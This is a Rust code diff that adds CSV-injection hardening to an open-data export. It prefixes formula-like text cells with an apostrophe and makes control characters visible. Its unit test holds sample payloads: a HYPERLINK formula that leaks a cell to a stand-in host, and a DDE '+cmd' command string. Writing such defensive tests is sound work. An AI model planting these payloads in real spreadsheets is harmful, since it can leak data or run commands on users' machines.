@@ -72,8 +72,20 @@ impl Tabella {
         let errore = |e: csv::Error| Errore::Interno(format!("scrittura di {}.csv: {e}", self.nome));
         let testa: Vec<&str> = self.campi.iter().filter_map(|c| c["name"].as_str()).collect();
         w.write_record(&testa).map_err(errore)?;
+        let testuali: Vec<bool> = self
+            .campi
+            .iter()
+            .map(|c| c["type"].as_str() == Some("string"))
+            .collect();
         for r in &self.righe {
-            w.write_record(r).map_err(errore)?;
+            let riga = r.iter().enumerate().map(|(i, cella)| {
+                if testuali.get(i).copied().unwrap_or(true) {
+                    inerte(cella)
+                } else {
+                    std::borrow::Cow::Borrowed(cella.as_str())
+                }
+            });
+            w.write_record(riga.map(|c| c.into_owned())).map_err(errore)?;
         }
         w.into_inner()
             .map_err(|e| Errore::Interno(format!("scrittura di {}.csv: {e}", self.nome)))
@@ -124,8 +136,44 @@ pub(super) fn pacchetto(r: &Relazione, tabelle: &[Tabella], licenza: &Licenza, p
     Ok(json)
 }
 
+/// A text of the open data as a spreadsheet may open it without running it
+/// (OWASP, "CSV Injection"): a text that begins — after any spaces — with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which a
+/// spreadsheet shows as text (`=HYPERLINK(…)` would otherwise be a live link
+/// to whatever it computes); a plain number such as `-5` stays as it is.
+/// Control characters (NUL, BEL, …), which no text of a Relazione holds and
+/// some programs stop at, are shown as their visible signs.
+pub(super) fn inerte(testo: &str) -> std::borrow::Cow<'_, str> {
+    let visibile = crate::terminale::pulito(testo);
+    let attivo = visibile.trim_start_matches(' ').starts_with([
+        '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{fe63}', '\u{ff0d}', '\u{ff20}',
+    ]) && visibile.trim().parse::<rust_decimal::Decimal>().is_err();
+    if attivo {
+        std::borrow::Cow::Owned(format!("'{visibile}"))
+    } else {
+        visibile
+    }
+}
+
 #[cfg(test)]
 mod tests {
+    use super::inerte;
+
+    #[test]
+    fn formulas_in_texts_are_neutralized() {
+        assert_eq!(
+            inerte("=HYPERLINK(\"https://x.example/?\"&A2,\"Dettagli\")"),
+            "'=HYPERLINK(\"https://x.example/?\"&A2,\"Dettagli\")"
+        );
+        assert_eq!(inerte("  +cmd|' /C calc'!A0"), "'  +cmd|' /C calc'!A0");
+        assert_eq!(inerte("@SUM(1+1)"), "'@SUM(1+1)");
+        assert_eq!(inerte("\u{ff1d}1+1"), "'\u{ff1d}1+1");
+        // Plain numbers and ordinary texts as they are; controls shown.
+        assert_eq!(inerte("-5"), "-5");
+        assert_eq!(inerte("Obiettivo - fase 2"), "Obiettivo - fase 2");
+        assert_eq!(inerte("a\u{0}b\u{7}"), "a␀b␇");
+    }
+
     use super::*;
 
     #[test]
